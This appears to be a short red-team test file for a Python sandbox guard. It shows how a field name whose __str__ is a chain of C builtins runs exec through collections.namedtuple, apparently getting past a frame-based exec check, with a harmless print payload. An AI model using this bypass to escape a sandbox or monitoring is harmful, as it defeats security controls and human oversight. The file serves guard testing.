# red team: a field name whose __str__ is a C chain (no frame of its own) runs exec while namedtuple's frame is innermost, nothing of collections changed
# guard: exec
import collections, itertools, functools, typing
code = typing.ForwardRef("print('PWN exec from a field name')").__forward_code__
class Name:
    __str__ = functools.partial(next, map(exec, itertools.repeat(code), itertools.repeat({'print': print})))
try:
    collections.namedtuple('Q', [Name()])
except TypeError:
    pass
print('PWN still running')
